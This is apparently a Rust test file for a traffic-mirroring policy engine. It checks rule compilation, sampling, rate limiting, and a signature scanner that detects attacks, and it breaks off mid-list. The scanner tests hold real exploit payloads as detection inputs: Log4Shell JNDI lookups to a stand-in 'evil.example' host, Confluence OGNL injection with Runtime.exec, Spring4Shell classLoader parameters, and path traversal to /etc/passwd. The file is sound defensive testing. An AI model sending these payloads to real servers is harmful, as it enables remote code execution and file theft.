use super::copy::Clock;
use super::decode::{eval_lookups, percent_decode_fully};
use super::rate::TokenBucket;
use super::sampling::{sample_point, sampled};
use super::*;
use crate::decision::MirrorReason;
use crate::headers::HeaderBlock;
use std::net::IpAddr;
#[cfg(target_arch = "wasm32")]
use wasm_bindgen_test::wasm_bindgen_test as test;

const ONE_TARGET: &str = r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}}}"#;

fn policy(json: &str) -> MirrorPolicy {
    MirrorPolicy::from_json(json.as_bytes()).unwrap_or_else(|e| panic!("{e}"))
}

fn error(json: &str) -> String {
    MirrorPolicy::from_json(json.as_bytes())
        .map(|_| ())
        .unwrap_err()
        .to_string()
}

fn headers(pairs: &[(&str, &str)]) -> HeaderBlock {
    pairs.iter().copied().collect()
}

struct Req {
    method: &'static str,
    path: String,
    authority: &'static str,
    headers: HeaderBlock,
    body: Vec<u8>,
    principal: Option<&'static str>,
    address: Option<IpAddr>,
}

impl Req {
    fn get(path: &str) -> Req {
        Req {
            method: "GET",
            path: path.to_string(),
            authority: "shop.example.com",
            headers: HeaderBlock::new(),
            body: Vec::new(),
            principal: None,
            address: None,
        }
    }
    fn post(path: &str, content_type: &str, body: &[u8]) -> Req {
        let mut r = Req::get(path);
        r.method = "POST";
        r.headers = headers(&[("content-type", content_type)]);
        r.body = body.to_vec();
        r
    }
    fn header(mut self, k: &str, v: &str) -> Req {
        self.headers.push(k, v);
        self
    }
    fn view(&self) -> MirrorRequest<'_> {
        MirrorRequest {
            method: self.method,
            path: &self.path,
            authority: self.authority,
            headers: &self.headers,
            peer: Peer::new(self.address, self.principal),
            normalized: None,
        }
    }
}

/// Signature names the policy finds in `req` (head, then body when it wants it).
fn scan(p: &MirrorPolicy, req: &Req) -> Vec<String> {
    let view = req.view();
    let mut hits = p.new_hits();
    p.scan_head(&view, &mut hits);
    if !req.body.is_empty() && p.wants_body(&view, &hits) {
        p.scan_body(&view, &req.body, &mut hits);
    }
    p.select(&view, &hits).signatures
}

fn select(p: &MirrorPolicy, req: &Req) -> Selection {
    let view = req.view();
    let mut hits = p.new_hits();
    p.scan_head(&view, &mut hits);
    p.select(&view, &hits)
}

fn default_policy() -> MirrorPolicy {
    policy(ONE_TARGET)
}

fn assert_detects(category: &str, req: Req) {
    let p = default_policy();
    let found = scan(&p, &req);
    assert!(
        found.iter().any(|c| c == category),
        "{category} not found in {} {} {:?} body {:?}: {found:?}",
        req.method,
        req.path,
        req.headers,
        String::from_utf8_lossy(&req.body)
    );
}

fn assert_clean(req: Req) {
    let p = default_policy();
    let found = scan(&p, &req);
    assert!(
        found.is_empty(),
        "false positive {found:?} on {} {} {:?}",
        req.method,
        req.path,
        req.headers
    );
}

// ---- policy compilation and errors ----

#[test]
fn minimal_policy_compiles_with_defaults() {
    let p = default_policy();
    assert_eq!(p.targets().len(), 1);
    let t = &p.targets()[0];
    assert_eq!(t.header, "x-meshsight-mirror");
    assert!(!t.include_secrets);
    assert_eq!(p.max_body_bytes(), 16384);
    assert_eq!(p.decision_headers(), vec!["x-meshsight-mirror".to_string()]);
}

#[test]
fn errors_name_the_json_path() {
    let cases: &[(&str, &str)] = &[
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"}},{"name":"b","action":{"type":"sample","fraction":1.5}}]}"#,
            "rules[1].action.fraction: must be within 0.0..=1.0",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"sample"}}]}"#,
            "rules[0].action.fraction: is required",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always","fraction":0.5}}]}"#,
            "rules[0].action.fraction: is only allowed",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"target":"nope"}]}"#,
            "rules[0].target: unknown target \"nope\"",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"sources":{"cidrs":["10.0.0.0/8","10.0.0.0/33"]}}]}"#,
            "rules[0].sources.cidrs[1]: \"10.0.0.0/33\" is not a CIDR",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"sources":{"principals":["spiffe://*/ns/x"]}}]}"#,
            "rules[0].sources.principals[0]",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"request":{"paths":[{"exact":"/a","prefix":"/b"}]}}]}"#,
            "rules[0].request.paths[0]: needs exactly one of",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"request":{"paths":[{"prefix":"admin"}]}}]}"#,
            "rules[0].request.paths[0].prefix: path prefix \"admin\" must start with \"/\"",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"request":{"headers":[{"name":"x-a"}]}}]}"#,
            "rules[0].request.headers[0]: needs exactly one of",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"request":{"hosts":["a.*.com"]}}]}"#,
            "rules[0].request.hosts[0]",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"}},{"name":"a","action":{"type":"never"}}]}"#,
            "rules[1].name: duplicate rule name \"a\"",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"request":{"methods":["GE T"]}}]}"#,
            "rules[0].request.methods[0]",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"sourcse":{}}]}"#,
            "rules[0].sourcse: unknown field",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"maybe"}}]}"#,
            "rules[0].action.type: unknown variant",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"mail"}}}"#,
            "targets.ids.delivery: unknown variant",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"","delivery":"header"}}}"#,
            "targets.ids.cluster: must not be empty",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header","max_rps":0}}}"#,
            "targets.ids.max_rps: must be a positive number",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"header","header":"x bad"}}}"#,
            "targets.ids.header",
        ),
        (
            r#"{"targets":{"ids":{"cluster":"s","delivery":"dispatch","max_in_flight":0}}}"#,
            "targets.ids.max_in_flight: must be at least 1",
        ),
        (
            r#"{"targets":{}}"#,
            "targets: at least one target is required",
        ),
        (
            r#"{"targets":{"a":{"cluster":"s","delivery":"header"},"b":{"cluster":"t","delivery":"header"}}}"#,
            "signatures.target: no target given",
        ),
        (
            r#"{"targets":{"a":{"cluster":"s","delivery":"header"}},"default_target":"zz"}"#,
            "default_target: unknown target \"zz\"",
        ),
        (
            r#"{"targets":{"a":{"cluster":"s","delivery":"header"}},"signatures":{"categories":{"log5shell":false}}}"#,
            "signatures.categories.log5shell: unknown category",
        ),
        (
            r#"{"targets":{"a":{"cluster":"s","delivery":"header"}},"signatures":{"custom":[{"name":"x","literal":""}]}}"#,
            "signatures.custom[0].literal: must not be empty",
        ),
        (
            r#"{"targets":{"a":{"cluster":"s","delivery":"header"}},"signatures":{"custom":[{"name":"log4shell","literal":"x"}]}}"#,
            "signatures.custom[0].name: duplicate signature name",
        ),
        (
            r#"{"targets":{"a":{"cluster":"s","delivery":"header"}},"signatures":{"custom":[{"name":"x","literal":"y","in":["cookies"]}]}}"#,
            "signatures.custom[0].in[0]: unknown variant",
        ),
        (
            r#"{"targets":{"a":{"cluster":"s","delivery":"header"}},"max_body_bytes":99999999}"#,
            "max_body_bytes: must be at most",
        ),
    ];
    for (json, want) in cases {
        let got = error(json);
        assert!(
            got.starts_with(want),
            "want {want:?}, got {got:?} for {json}"
        );
    }
}

#[test]
fn several_targets_need_a_target_per_rule_unless_a_default_is_set() {
    let two = r#""targets":{"a":{"cluster":"s","delivery":"header"},"b":{"cluster":"t","delivery":"dispatch"}}"#;
    let e = error(&format!(
        r#"{{{two},"signatures":{{"target":"a"}},"rules":[{{"name":"r","action":{{"type":"always"}}}}]}}"#
    ));
    assert!(e.starts_with("rules[0].target: no target given"), "{e}");
    // `never` needs no target.
    policy(&format!(
        r#"{{{two},"signatures":{{"target":"a"}},"rules":[{{"name":"r","action":{{"type":"never"}}}}]}}"#
    ));
    let p = policy(&format!(
        r#"{{{two},"default_target":"b","rules":[{{"name":"r","action":{{"type":"always"}}}}]}}"#
    ));
    let s = select(&p, &Req::get("/"));
    assert_eq!(p.targets()[s.target.unwrap()].name, "b");
}

// ---- rules ----

fn rules_policy(rules: &str) -> MirrorPolicy {
    policy(&format!(
        r#"{{"targets":{{"ids":{{"cluster":"sensor","delivery":"header"}}}},"rules":{rules}}}"#
    ))
}

fn rule_of(p: &MirrorPolicy, req: &Req) -> (MirrorReason, Option<String>) {
    let s = select(p, req);
    (s.reason, s.rule)
}

#[test]
fn no_rule_no_signature_is_not_selected() {
    let p = default_policy();
    let s = select(&p, &Req::get("/index.html"));
    assert_eq!(s.reason, MirrorReason::NotSelected);
    assert!(!s.selected());
    assert_eq!(s.rule, None);
}

#[test]
fn first_matching_rule_wins() {
    let p = rules_policy(
        r#"[{"name":"quiet","request":{"paths":[{"prefix":"/health"}]},"action":{"type":"never"}},
            {"name":"all","action":{"type":"always"}}]"#,
    );
    assert_eq!(
        rule_of(&p, &Req::get("/healthz")),
        (MirrorReason::NotSelected, Some("quiet".into()))
    );
    assert_eq!(
        rule_of(&p, &Req::get("/api")),
        (MirrorReason::Rule, Some("all".into()))
    );
}

#[test]
fn namespace_rule_reads_the_peer_spiffe_id() {
    let p = rules_policy(
        r#"[{"name":"pay","sources":{"namespaces":["payments"]},"action":{"type":"always"}}]"#,
    );
    let mut r = Req::get("/");
    r.principal = Some("spiffe://cluster.local/ns/payments/sa/api");
    assert_eq!(rule_of(&p, &r).0, MirrorReason::Rule);
    r.principal = Some("spiffe://cluster.local/ns/payments-dev/sa/api");
    assert_eq!(rule_of(&p, &r).0, MirrorReason::NotSelected);
    r.principal = None;
    assert_eq!(rule_of(&p, &r).0, MirrorReason::NotSelected);
}

#[test]
fn namespace_rule_needs_the_istio_workload_shape() {
    // The same reading of a SPIFFE id as the allowlist's: a namespace only in
    // `spiffe://<td>/ns/<ns>/sa/<sa>`, never from a longer or shorter path containing `/ns/`.
    let p = rules_policy(
        r#"[{"name":"pay","sources":{"namespaces":["payments"]},"action":{"type":"always"}}]"#,
    );
    let mut r = Req::get("/");
    for id in [
        "spiffe://cluster.local/x/ns/payments/sa/api",
        "spiffe://cluster.local/ns/payments",
        "spiffe://cluster.local/ns/payments/sa/api/extra",
    ] {
        r.principal = Some(id);
        assert_eq!(rule_of(&p, &r).0, MirrorReason::NotSelected, "{id}");
    }
}

#[test]
fn sources_are_validated_like_the_allowlist() {
    let rule = |sources: &str| {
        format!(
            r#"{{"targets":{{"ids":{{"cluster":"s","delivery":"header"}}}},"rules":[{{"name":"a","action":{{"type":"always"}},"sources":{sources}}}]}}"#
        )
    };
    let cases = [
        (
            r#"{"cidrs":["10.1.2.3/8"]}"#,
            "rules[0].sources.cidrs[0]: \"10.1.2.3/8\" has host bits set; did you mean 10.0.0.0/8?",
        ),
        (
            r#"{"principals":["spiffe://cluster.local/ns/ba*"]}"#,
            "rules[0].sources.principals[0]: \"spiffe://cluster.local/ns/ba*\" is not a SPIFFE ID",
        ),
        (r#"{"principals":["*"]}"#, "does not start with spiffe://"),
        (
            r#"{"namespaces":["Payments"]}"#,
            "rules[0].sources.namespaces[0]: \"Payments\" is not a namespace name",
        ),
        (
            r#"{"namespaces":["-payments"]}"#,
            "rules[0].sources.namespaces[0]",
        ),
    ];
    for (sources, want) in cases {
        let e = error(&rule(sources));
        assert!(e.contains(want), "{sources}: {e}");
    }
}

#[test]
fn principal_rule_exact_and_prefix() {
    let p = rules_policy(
        r#"[{"name":"p","sources":{"principals":["spiffe://cluster.local/ns/shop/sa/web","spiffe://cluster.local/ns/batch/*"]},"action":{"type":"always"}}]"#,
    );
    let mut r = Req::get("/");
    for (principal, want) in [
        ("spiffe://cluster.local/ns/shop/sa/web", true),
        ("spiffe://cluster.local/ns/shop/sa/web2", false),
        ("spiffe://cluster.local/ns/batch/sa/cron", true),
        ("spiffe://cluster.local/ns/batchx/sa/cron", false),
    ] {
        r.principal = Some(principal);
        assert_eq!(select(&p, &r).selected(), want, "{principal}");
    }
}

#[test]
fn cidr_rule_matches_v4_v6_and_mapped_addresses() {
    let p = rules_policy(
        r#"[{"name":"c","sources":{"cidrs":["10.1.0.0/16","2001:db8::/32","192.0.2.7"]},"action":{"type":"always"}}]"#,
    );
    let mut r = Req::get("/");
    for (addr, want) in [
        ("10.1.2.3", true),
        ("10.2.0.1", false),
        ("2001:db8::1", true),
        ("::ffff:10.1.9.9", true),
        ("192.0.2.7", true),
        ("192.0.2.8", false),
    ] {
        r.address = Some(addr.parse().unwrap());
        assert_eq!(select(&p, &r).selected(), want, "{addr}");
    }
    r.address = None;
    assert!(!select(&p, &r).selected());
}

#[test]
fn method_host_and_path_rules() {
    let p = rules_policy(
        r#"[{"name":"m","request":{"methods":["DELETE"]},"action":{"type":"always"}},
            {"name":"h","request":{"hosts":["*.admin.example.com","api.example.com"]},"action":{"type":"always"}},
            {"name":"pe","request":{"paths":[{"exact":"/login"}]},"action":{"type":"always"}},
            {"name":"pp","request":{"paths":[{"prefix":"/admin/"}]},"action":{"type":"always"}}]"#,
    );
    let mut r = Req::get("/x");
    r.method = "DELETE";
    assert_eq!(rule_of(&p, &r).1.as_deref(), Some("m"));
    let mut r = Req::get("/x");
    r.authority = "eu.admin.example.com:8443";
    assert_eq!(rule_of(&p, &r).1.as_deref(), Some("h"));
    r.authority = "admin.example.com";
    assert_eq!(rule_of(&p, &r).1, None, "bare domain is not a subdomain");
    r.authority = "API.example.com";
    assert_eq!(rule_of(&p, &r).1.as_deref(), Some("h"));
    assert_eq!(
        rule_of(&p, &Req::get("/login?next=/")).1.as_deref(),
        Some("pe")
    );
    assert_eq!(rule_of(&p, &Req::get("/login/x")).1, None);
    assert_eq!(
        rule_of(&p, &Req::get("/%61dmin/users")).1.as_deref(),
        Some("pp")
    );
    assert_eq!(rule_of(&p, &Req::get("/administrator")).1, None);
}

#[test]
fn selectors_share_the_allowlist_vocabulary() {
    let rule = |request: &str| {
        format!(
            r#"{{"targets":{{"ids":{{"cluster":"s","delivery":"header"}}}},"rules":[{{"name":"a","action":{{"type":"always"}},"request":{request}}}]}}"#
        )
    };
    let cases = [
        (r#"{"methods":["delete"]}"#, "rules[0].request.methods[0]: method \"delete\" never matches: methods are case-sensitive; did you mean \"DELETE\"?"),
        (r#"{"methods":[]}"#, "rules[0].request.methods: must not be empty"),
        (r#"{"paths":[]}"#, "rules[0].request.paths: must not be empty"),
        (r#"{}"#, "rules[0].request: must not be empty"),
        (r#"{"hosts":["*"]}"#, "omit the field to match any host"),
        (r#"{"paths":[{"exact":"/a/../b"}]}"#, "rules[0].request.paths[0].exact: exact path \"/a/../b\" is not in normalized form"),
        (r#"{"query":[{"name":"q"}]}"#, "rules[0].request.query[0]: exactly one of"),
    ];
    for (request, want) in cases {
        let e = error(&rule(request));
        assert!(e.contains(want), "{request}: {e}");
    }
    let sources = error(
        r#"{"targets":{"ids":{"cluster":"s","delivery":"header"}},"rules":[{"name":"a","action":{"type":"always"},"sources":{}}]}"#,
    );
    assert!(
        sources.starts_with("rules[0].sources: must not be empty"),
        "{sources}"
    );
}

#[test]
fn path_selectors_match_the_normalized_path() {
    // Signatures off, so that the traversal below is judged by the rules alone.
    let p = policy(
        r#"{"targets":{"ids":{"cluster":"sensor","delivery":"header"}},"signatures":{"enabled":false},
            "rules":[{"name":"admin","request":{"paths":[{"prefix":"/admin/"}]},"action":{"type":"always"}},
            {"name":"items","request":{"paths":["/api/{v}/items/**"],"query":[{"name":"debug","present":true}]},"action":{"type":"always"}}]}"#,
    );
    for path in [
        "/admin/x",
        "/static/../admin/x",
        "//admin//x",
        "/%61dmin/x",
        "/./admin/x",
    ] {
        assert_eq!(
            rule_of(&p, &Req::get(path)).1.as_deref(),
            Some("admin"),
            "{path}"
        );
    }
    // What the allowlist calls malformed is no path at all: it matches no path selector (its
    // encoded separator is the path_traversal signature's business).
    assert_eq!(rule_of(&p, &Req::get("/admin%2fx")).1, None);
    assert_eq!(
        rule_of(&p, &Req::get("/api/v2/items/7?debug")).1.as_deref(),
        Some("items")
    );
    assert_eq!(rule_of(&p, &Req::get("/api/v2/items/7")).1, None);
}

#[test]
fn select_facts_is_select_with_facts_normalized_once() {
    let p = rules_policy(
        r#"[{"name":"h","request":{"hosts":["shop.example.com"],"methods":["POST"]},"action":{"type":"always"}}]"#,
    );
    let r = Req::post("/x", "text/plain", b"");
    let req = r.view();
    let hits = p.new_hits();
    let facts = crate::matching::RequestFacts::new(
        "POST",
        "/x",
        "Shop.Example.COM.",
        "https",
        req.headers,
        Peer::default(),
    );
    assert_eq!(p.select(&req, &hits), p.select_facts(&facts, &hits));
    assert_eq!(p.select_facts(&facts, &hits).reason, MirrorReason::Rule);
    // Handed the allowlist's normalized request, `select` decides on it without normalizing
    // again: the same selection.
    let shared = MirrorRequest {
        normalized: Some(&facts),
        ..req
    };
    assert_eq!(p.select(&shared, &hits), p.select(&req, &hits));
}

#[test]
fn header_rules_exact_prefix_contains_present_absent() {
    let p = rules_policy(
        r#"[{"name":"e","request":{"headers":[{"name":"X-Tenant","exact":"acme"}]},"action":{"type":"always"}},
            {"name":"p","request":{"headers":[{"name":"authorization","prefix":"Basic "}]},"action":{"type":"always"}},
            {"name":"c","request":{"headers":[{"name":"user-agent","contains":"SQLMap"}]},"action":{"type":"always"}},
            {"name":"pr","request":{"headers":[{"name":"x-debug","present":true}]},"action":{"type":"always"}},
            {"name":"ab","request":{"methods":["PUT"],"headers":[{"name":"x-trace","present":false}]},"action":{"type":"always"}}]"#,
    );
    let name = |r: Req| rule_of(&p, &r).1;
    assert_eq!(
        name(Req::get("/").header("x-tenant", "acme")).as_deref(),
        Some("e")
    );
    assert_eq!(name(Req::get("/").header("x-tenant", "acme2")), None);
    assert_eq!(
        name(Req::get("/").header("authorization", "Basic dTpw")).as_deref(),
        Some("p")
    );
    assert_eq!(
        name(Req::get("/").header("user-agent", "sqlmap/1.7")).as_deref(),
        Some("c")
    );
    assert_eq!(
        name(Req::get("/").header("x-debug", "")).as_deref(),
        Some("pr")
    );
    let mut put = Req::get("/");
    put.method = "PUT";
    assert_eq!(name(put).as_deref(), Some("ab"));
    let mut put = Req::get("/").header("x-trace", "1");
    put.method = "PUT";
    assert_eq!(name(put), None);
}

#[test]
fn all_selector_fields_must_hold_together() {
    let p = rules_policy(
        r#"[{"name":"both","sources":{"cidrs":["10.0.0.0/8"]},"request":{"methods":["POST"]},"action":{"type":"always"}}]"#,
    );
    let mut r = Req::post("/", "text/plain", b"x");
    assert!(!select(&p, &r).selected(), "no address");
    r.address = Some("10.0.0.1".parse().unwrap());
    assert!(select(&p, &r).selected());
    r.method = "GET";
    assert!(!select(&p, &r).selected());
}

// ---- sampling ----

#[test]
fn sampling_is_deterministic_per_request_id() {
    let p = rules_policy(r#"[{"name":"s","action":{"type":"sample","fraction":0.5}}]"#);
    // Another sidecar's copy of the same policy, compiled once: a policy holds no sampling state.
    let other_sidecar = rules_policy(r#"[{"name":"s","action":{"type":"sample","fraction":0.5}}]"#);
    for i in 0..200 {
        let id = format!("9b6a{i:04}-1c2d-4e5f-8a9b-0c1d2e3f4a5b");
        let a = select(&p, &Req::get("/").header("x-request-id", &id));
        let b = select(
            &other_sidecar,
            &Req::get("/other").header("x-request-id", &id),
        );
        assert_eq!(a.selected(), b.selected(), "{id}");
        assert_eq!(a.selected(), sample_point(&id) < 0.5);
    }
}

#[test]
fn sampling_share_is_close_to_the_fraction() {
    for (fraction, tolerance) in [(0.1, 0.01), (0.25, 0.015), (0.5, 0.015)] {
        let n = 10_000;
        let hits = (0..n)
            .filter(|i| sampled(Some(&format!("{i:08x}-0000-4000-8000-{i:012x}")), fraction))
            .count();
        let share = hits as f64 / n as f64;
        assert!(
            (share - fraction).abs() < tolerance,
            "fraction {fraction}: share {share}"
        );
    }
}

#[test]
fn sampling_edges_and_missing_id() {
    assert!(!sampled(Some("x"), 0.0));
    assert!(sampled(Some("x"), 1.0));
    assert!(!sampled(None, 1.0), "no id: never sampled");
    assert!(!sampled(Some(""), 1.0));
    let p = rules_policy(r#"[{"name":"s","action":{"type":"sample","fraction":1.0}}]"#);
    let s = select(&p, &Req::get("/"));
    assert_eq!(
        (s.reason, s.rule.as_deref()),
        (MirrorReason::NotSelected, Some("s"))
    );
    let s = select(&p, &Req::get("/").header("x-request-id", "abc"));
    assert_eq!(s.reason, MirrorReason::Sample);
}

// ---- rate cap ----

#[test]
fn token_bucket_allows_burst_then_refills_with_time() {
    let mut b = TokenBucket::new(2.0, 3.0);
    let t0 = 1_000_000_000_000;
    assert!(b.try_take(t0));
    assert!(b.try_take(t0));
    assert!(b.try_take(t0));
    assert!(!b.try_take(t0), "burst spent");
    assert!(!b.try_take(t0 + 400_000_000), "0.8 token after 0.4 s");
    assert!(b.try_take(t0 + 500_000_000), "1 token after 0.5 s");
    assert!(!b.try_take(t0 + 500_000_000));
    // A long pause refills only up to the burst.
    let later = t0 + 3_600_000_000_000;
    assert!((0..3).all(|_| b.try_take(later)));
    assert!(!b.try_take(later));
    // A clock stepping back refills nothing.
    assert!(!b.try_take(t0));
}

#[test]
fn rate_limiter_turns_excess_into_rate_limited() {
    let p = policy(
        r#"{"targets":{"ids":{"cluster":"s","delivery":"header","max_rps":1,"burst":2}},
            "rules":[{"name":"all","action":{"type":"always"}}]}"#,
    );
    let mut limiter = RateLimiter::new(&p);
    let now = 5_000_000_000;
    let mut reasons = Vec::new();
    for _ in 0..4 {
        let d = limiter.decide(&p, select(&p, &Req::get("/")), &mut Clock::at(now));
        reasons.push((d.mirrored, d.reason));
    }
    assert_eq!(
        reasons,
        vec![
            (true, MirrorReason::Rule),
            (true, MirrorReason::Rule),
            (false, MirrorReason::RateLimited),
            (false, MirrorReason::RateLimited),
        ]
    );
    let d = limiter.decide(
        &p,
        select(&p, &Req::get("/")),
        &mut Clock::at(now + 1_000_000_000),
    );
    assert!(d.mirrored);
    assert_eq!(d.target.as_deref(), Some("ids"));
    assert_eq!(d.rule.as_deref(), Some("all"));
    // Not-selected requests take no token.
    let none = default_policy();
    let mut l = RateLimiter::new(&none);
    let d = l.decide(&none, select(&none, &Req::get("/")), &mut Clock::at(now));
    assert_eq!(
        (d.mirrored, d.reason, d.target),
        (false, MirrorReason::NotSelected, None)
    );
}

// ---- signatures: decoding helpers ----

#[test]
fn percent_decoding_is_repeated_and_bounded() {
    assert_eq!(percent_decode_fully(b"%252e%252e%252f", false), b"../");
    assert_eq!(percent_decode_fully(b"a+b%2", true), b"a b%2");
    assert_eq!(percent_decode_fully(b"%u002e", false), b".");
    // Four levels: only three are undone.
    assert_eq!(percent_decode_fully(b"%25252525", false), b"%25");
}

#[test]
fn lookups_are_evaluated_innermost_first() {
    for (input, want) in [
        ("${${lower:j}ndi:ldap://x/a}", "${jndi:ldap://x/a}"),
        ("${${::-j}${::-n}${::-d}${::-i}:rmi://x}", "${jndi:rmi://x}"),
        (
            "${${env:nothing:-j}ndi${env:nothing:-:}ldap://x}",
            "${jndi:ldap://x}",
        ),
        ("${${upper:j}${date:'n'}di:dns://x}", "${jndi:dns://x}"),
        ("${jndi:${lower:l}${lower:d}ap://x}", "${jndi:ldap://x}"),
        ("/docs/${version}/x", "/docs/${version}/x"),
        (
            "${${lower:j}ndi:ldap://unterminated",
            "${jndi:ldap://unterminated",
        ),
        ("plain", "plain"),
    ] {
        assert_eq!(eval_lookups(input), want, "{input}");
    }
    // Deep nesting does not recurse without bound.
    let deep = "${".repeat(5000) + &"}".repeat(5000);
    assert!(!eval_lookups(&deep).is_empty());
}

// ---- signatures: categories ----

#[test]
fn log4shell_plain_encoded_and_obfuscated() {
    let l = "log4shell";
    assert_detects(
        l,
        Req::get("/").header("user-agent", "${jndi:ldap://evil.example/a}"),
    );
    assert_detects(
        l,
        Req::get("/").header("x-api-version", "${JNDI:ldap://evil/a}"),
    );
    assert_detects(l, Req::get("/?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D"));
    assert_detects(
        l,
        Req::get("/?q=%2524%257Bjndi%253Aldap%253A%252F%252Fe%257D"),
    );
    assert_detects(
        l,
        Req::get("/").header("referer", "${${lower:j}ndi:ldap://e/a}"),
    );
    assert_detects(
        l,
        Req::get("/").header("x-a", "${${::-j}${::-n}${::-d}${::-i}:rmi://e/a}"),
    );
    assert_detects(
        l,
        Req::get("/").header("x-a", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://e}"),
    );
    assert_detects(
        l,
        Req::get("/").header("x-a", "${${upper:j}ndi:ldap://e/a}"),
    );
    assert_detects(
        l,
        Req::get("/search/%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fe%7D"),
    );
    assert_detects(
        l,
        Req::post(
            "/login",
            "application/x-www-form-urlencoded",
            b"user=%24%7Bjndi%3Aldap%3A%2F%2Fe%7D&pw=x",
        ),
    );
    assert_detects(
        l,
        Req::post(
            "/api",
            "application/json",
            br#"{"name":"\u0024\u007bjndi:ldap://e/a}"}"#,
        ),
    );
    assert_detects(
        l,
        Req::post("/api", "text/plain", b"hello ${jndi:dns://e} bye"),
    );
}

#[test]
fn log4shell_near_misses_are_clean() {
    assert_clean(Req::get("/?q=jndi").header("x-a", "${user} jndi: ldap"));
    assert_clean(Req::get("/").header("x-template", "${lower:abc}"));
    assert_clean(Req::post(
        "/api",
        "application/json",
        br#"{"greeting":"${name}","jndi":"x"}"#,
    ));
}

#[test]
fn confluence_ognl_cve_2021_26084_on_its_endpoints() {
    let c = "confluence_ognl";
    assert_detects(
        c,
        Req::post(
            "/pages/doenterpagevariables.action",
            "application/x-www-form-urlencoded",
            b"queryString=aaaaaaaa\\u0027%2b#{\\u0022\\u0022[\\u0022class\\u0022]}%2b\\u0027",
        ),
    );
    assert_detects(
        c,
        Req::get("/pages/createpage-entervariables.action?SpaceKey=x&linkCreation=%5Cu0027%2B%7BClass.forName%28%5Cu0027javax.script.ScriptEngineManager%5Cu0027%29%7D%2B%5Cu0027"),
    );
    assert_detects(
        c,
        Req::post(
            "/confluence/templates/editor-preload-container",
            "application/x-www-form-urlencoded",
            b"queryString=x%27%2B%23%7B1%2B1%7D%2B%27",
        ),
    );
    assert_detects(
        c,
        Req::get("/users/user-dark-features?featureKey=%23%7B7*7%7D"),
    );
    assert_detects(
        c,
        Req::get("/pages/createpage.action?queryString=%5Cu0027%2b%23%7b7*7%7d"),
    );
}

#[test]
fn confluence_ognl_cve_2022_26134_dollar_brace_in_path() {
    let c = "confluence_ognl";
    assert_detects(
        c,
        Req::get("/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%29%7D/"),
    );
    assert_detects(c, Req::get("/${Class.forName(\"x\")}/"));
    assert_detects(c, Req::get("/%2524%257B7*7%257D/"));
    // Deliberate: any `${` in a URI path counts (no legitimate route carries one), including a
    // template placeholder that leaked into a link.
    assert_detects(c, Req::get("/docs/${version}/index.html"));
}

#[test]
fn confluence_ognl_near_misses_are_clean() {
    // OGNL markers off the vulnerable endpoints, and the endpoints without markers.
    assert_clean(Req::get("/search?q=%23%7Btag%7D"));
    assert_clean(Req::get(
        "/pages/doenterpagevariables.action?queryString=hello+world",
    ));
    assert_clean(Req::get("/price?total=$100&note={x}"));
}

#[test]
fn spring4shell_dotted_bracketed_and_encoded() {
    let s = "spring4shell";
    assert_detects(
        s,
        Req::post(
            "/app/greeting",
            "application/x-www-form-urlencoded",
            b"class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di",
        ),
    );
    assert_detects(s, Req::get("/app?class.module.classLoader.URLs%5B0%5D=0"));
    assert_detects(s, Req::get("/app?class%2Emodule%2EclassLoader.x=1"));
    assert_detects(s, Req::get("/app?CLASS.MODULE.CLASSLOADER.x=1"));
    assert_detects(
        s,
        Req::post(
            "/app",
            "application/x-www-form-urlencoded",
            b"class%5B%27module%27%5D%5B%27classLoader%27%5D.resources=1",
        ),
    );
    assert_detects(s, Req::get("/app?class[module][classLoader].x=1"));
    assert_detects(
        s,
        Req::post(
            "/app",
            "application/json",
            br#"{"class.module.classLoader.x":"1"}"#,
        ),
    );
}

#[test]
fn spring4shell_near_misses_are_clean() {
    assert_clean(Req::get("/app?class=module&loader=classloader"));
    assert_clean(Req::post(
        "/app",
        "application/x-www-form-urlencoded",
        b"classroom.module=3&classLoaderVersion=2",
    ));
}

#[test]
fn path_traversal_plain_encoded_and_files() {
    let t = "path_traversal";
    for path in [
        "/static/../../etc/hosts",
        "/static/%2e%2e/%2e%2e/app.conf",
        "/static/%2e%2e%2f%2e%2e%2fapp.conf",
        "/static/%252e%252e%252fapp.conf",
        "/static/..%5c..%5cwindows",
        "/static/..\\..\\windows",
        "/static/..;/manager/html",
        "/download?file=../../secret",
        "/download?file=..%2F..%2Fsecret",
        "/view?page=%2Fetc%2Fpasswd",
